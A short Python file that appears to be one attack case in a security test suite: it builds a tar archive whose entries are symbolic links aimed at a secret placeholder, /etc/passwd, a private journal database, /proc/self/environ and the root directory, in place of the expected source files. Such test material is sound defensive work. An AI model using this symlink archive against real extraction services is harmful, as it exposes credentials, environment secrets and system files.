# attack: archive
# root: files
# what: symbolic links to the secret and to the marks in place of source files
# list: 14
import tarfile

from pack import make_tar, special


def archive(files: dict[str, bytes]) -> bytes:
    targets = ("@SECRET@", "/etc/passwd", "../private/journal.sqlite", "/proc/self/environ", "/")
    links = [special(path, tarfile.SYMTYPE, target) for path, target in zip(files, targets)]
    return make_tar({}, extra=links)
